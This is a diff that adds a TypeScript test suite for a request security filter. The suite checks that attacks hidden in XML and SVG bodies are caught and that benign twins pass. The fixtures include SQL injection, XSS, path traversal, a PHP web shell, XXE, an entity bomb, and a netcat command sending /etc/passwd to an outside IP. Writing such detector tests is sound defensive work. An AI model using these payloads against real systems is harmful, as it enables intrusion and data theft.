@@ -1,0 +1,149 @@
+import type { NormalizedRequest } from '../src/adapter.ts';
+import type { CheckId } from '../src/detectors/taxonomy.ts';
+import type { InputLocation } from '../src/input.ts';
+import { judgeRequest } from './judge-request.ts';
+
+const bodyOf = (type: string, content: string | Uint8Array): Partial<NormalizedRequest> => ({
+  headers: [['content-type', type]],
+  body: { kind: 'bytes', bytes: typeof content === 'string' ? Buffer.from(content) : content },
+});
+
+/** A body with an attack, what finds it, where, and the same body without the attack. */
+type Case = readonly [
+  title: string,
+  type: string,
+  check: CheckId,
+  at: InputLocation,
+  attack: string | Uint8Array,
+  benign: string | Uint8Array,
+];
+
+const soap = (value: string): string =>
+  `<?xml version="1.0" encoding="UTF-8"?>
+<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:m="http://example.com/orders">
+  <!-- customer's own note -->
+  <soap:Header><m:Trace id="8c0f--12"/></soap:Header>
+  <soap:Body><m:Find><m:name>${value}</m:name><m:name>second</m:name></m:Find></soap:Body>
+</soap:Envelope>`;
+const xml = (name: string): InputLocation => ({ source: 'xml-value', name });
+const markup = (name: string): InputLocation => ({ source: 'xml-markup', name });
+const xmlCases: readonly Case[] = [
+  [
+    'text of an element',
+    'application/soap+xml; charset=utf-8',
+    'sqli',
+    xml('/soap:Envelope/soap:Body/m:Find/m:name'),
+    soap("x' OR '1'='1"),
+    soap("Sean O'Neil &amp; sons, union representative; select &quot;any&quot;"),
+  ],
+  [
+    'text written as entities',
+    'text/xml',
+    'xss',
+    xml('/order/note'),
+    '<order><note>&lt;script&gt;alert(1)&lt;/script&gt;</note></order>',
+    '<order><note>a &lt; b &amp;&amp; c &gt; d</note></order>',
+  ],
+  [
+    'text split by CDATA',
+    'application/xml',
+    'sqli',
+    xml('/q'),
+    "<q>1' UN<![CDATA[ION SELECT password FROM us]]>ers--</q>",
+    '<q>select <![CDATA[a <b>union</b>]]> of users</q>',
+  ],
+  [
+    'text split by children',
+    'application/xml',
+    'sqli',
+    xml('/q'),
+    "<q>1' UN<b>ION SELECT password FR</b>OM users--</q>",
+    "<q>O'Neil <b>and</b> sons</q>",
+  ],
+  [
+    'an attribute',
+    'application/vnd.shop+xml',
+    'traversal',
+    xml('/order/item[2]/@file'),
+    '<order><item file="a.png"/><item file="..&#47;../../etc/passwd"/></order>',
+    '<order><item file="a.png"/><item file="img/b.png"/></order>',
+  ],
+  [
+    'a comment',
+    'application/xml',
+    'command',
+    xml('/a/comment()'),
+    '<a><!--; cat /etc/passwd | nc 203.0.113.9 80--></a>',
+    "<a><!-- don't; it's -- no, it is fine --></a>",
+  ],
+  [
+    'a processing instruction',
+    'application/xml',
+    'code',
+    xml('/a/processing-instruction()'),
+    '<a><?php system($_GET["c"]); ?></a>',
+    '<?mso-application progid="Excel.Sheet"?><a>x</a>',
+  ],
+  [
+    'a name',
+    'application/xml',
+    'prototype-pollution',
+    { source: 'xml-name', name: '/a/__proto__' },
+    '<a><__proto__><admin>1</admin></__proto__></a>',
+    '<a><proto><constructor>1</constructor></proto></a>',
+  ],
+  [
+    'an external entity',
+    'application/xml',
+    'xxe',
+    markup('/!DOCTYPE'),
+    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]><a>&x;</a>',
+    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html><p>x</p></html>',
+  ],
+  [
+    'entities that expand a thousandfold',
+    'text/xml',
+    'xxe',
+    markup('/!DOCTYPE'),
+    '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]><l>&c;</l>',
+    '<!DOCTYPE l><l>ha &amp; ha</l>',
+  ],
+  [
+    'an inclusion',
+    'application/xml',
+    'xxe',
+    markup('/a/xi:include'),
+    '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/hostname"/></a>',
+    '<a xmlns:xi="http://www.w3.org/2001/XInclude"><included href="a.xml"/></a>',
+  ],
+  [
+    'a picture that runs script',
+    'image/svg+xml',
+    'xss',
+    markup('/svg'),
+    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>',
+    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><path d="M0 0L10 10z" style="fill:none"/></svg>',
+  ],
+  ['a document cut short', 'application/xml', 'sqli', xml('/order/q'), "<order><q>x' OR '1'='1", "<order><q>O'Neil"],
+  [
+    'XML that is called text',
+    'text/plain',
+    'sqli',
+    xml('/q'),
+    "<q>1' UN<![CDATA[ION SELECT password FROM us]]>ers--</q>",
+    '<q>it is <![CDATA[<fine>]]></q>',
+  ],
+];
+
+describe('an attack in XML', () => {
+  it.each(xmlCases)('as %s (%s) is found by %s and named; its benign twin passes', async (...row) => {
+    await judgeBoth(row);
+  });
+});
+
+async function judgeBoth([, type, check, at, attack, benign]: Case): Promise<void> {
+  const { findings, denied } = await judgeRequest({ SECURITY_CHECKS: { truncated: 'off' } }, bodyOf(type, attack));
+  expect(findings.map(({ check, input }) => ({ check, input }))).toEqual([{ check, input: at }]);
+  expect(denied).toBe(true);
+  expect(await judgeRequest({}, bodyOf(type, benign))).toEqual({ denied: false, findings: [] });
+}
